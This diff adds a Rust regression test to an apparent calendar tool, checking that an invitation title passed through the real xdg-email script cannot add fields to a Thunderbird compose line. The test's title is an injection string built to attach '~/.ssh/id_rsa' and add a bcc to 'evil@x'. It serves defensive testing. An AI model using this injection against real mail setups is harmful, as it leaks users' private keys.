@@ -398,6 +398,84 @@ fn the_mail_program_gets_the_bare_address_and_the_title_as_the_subject() {
     assert_eq!(args[5], "Gina+planning@Mail.Example.org");
 }
 
+/// The real `xdg-email` (xdg-utils), down its Thunderbird path to a
+/// stand-in `thunderbird` that keeps its arguments: the compose line holds
+/// the organiser and one attachment, the reply, whatever the title says.
+/// Under dash (Debian's /bin/sh) `xdg-email`'s `echo`s read backslash
+/// escapes in the subject more than once, so `\\\\047` in a title came out
+/// of it as a quote that ended the subject field early.
+#[test]
+fn through_the_real_xdg_email_a_title_adds_no_compose_field() {
+    let xdg_email = ["/usr/bin/xdg-email", "/usr/local/bin/xdg-email"]
+        .into_iter()
+        .find(|p| Path::new(p).exists())
+        .expect("xdg-email (Debian's xdg-utils; scripts/test installs it)");
+    let db = TempDb::new();
+    me(&db, "me@example.org");
+    let title =
+        r"Planning\\\\047\\\\054attachment\\\\075\\\\047/home/u/.ssh/id_rsa\\\\047 --bcc evil@x \c";
+    let uid = invitation_from(&db, "mailto:gina@example.org", title);
+    let home = tempfile::tempdir().unwrap();
+    let bin = home.path().join("bin");
+    let apps = home.path().join("data/applications");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::create_dir_all(&apps).unwrap();
+    let seen = home.path().join("compose");
+    let script = |name: &str, body: &str| {
+        let path = bin.join(name);
+        std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    // The default mail program is Thunderbird; it keeps its arguments.
+    script("xdg-mime", "echo thunderbird.desktop");
+    script(
+        "thunderbird",
+        &format!("printf '%s\\n' \"$@\" > '{}'", seen.display()),
+    );
+    std::fs::write(
+        apps.join("thunderbird.desktop"),
+        "[Desktop Entry]\nType=Application\nName=Thunderbird\nExec=thunderbird %u\n",
+    )
+    .unwrap();
+    std::fs::copy(xdg_email, bin.join("xdg-email")).unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_kairos"))
+        .args(["reply", &uid, "--accept", "--email"])
+        .env_clear()
+        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
+        .env("HOME", home.path())
+        .env("XDG_DATA_HOME", home.path().join("data"))
+        .env("XDG_DATA_DIRS", home.path().join("data"))
+        .env("KAIROS_DB", &db.path)
+        .env("TZ", "Europe/Paris")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let compose = std::fs::read_to_string(&seen).expect("thunderbird was run");
+    let lines: Vec<&str> = compose.lines().collect();
+    assert_eq!(lines.len(), 2, "{compose}");
+    assert_eq!(lines[0], "-compose");
+    let line = lines[1];
+    assert!(
+        line.starts_with("to='gina@example.org,',subject="),
+        "{line}"
+    );
+    assert_eq!(line.matches("attachment=").count(), 1, "{line}");
+    assert_eq!(line.matches('\'').count(), 4, "{line}");
+    assert!(!line.contains("bcc="), "{line}");
+    let attached = line
+        .split_once(",attachment='")
+        .and_then(|(_, a)| a.strip_suffix('\''))
+        .unwrap_or_else(|| panic!("no attachment last: {line}"));
+    assert!(
+        Path::new(attached).starts_with(db.dir.path().join("replies")),
+        "{line}"
+    );
+}
+
 /// An updated invitation that came as a file: moved, with my earlier
 /// answer left standing by the organiser's client, it asks me again; one
 /// that only changes the title does not.
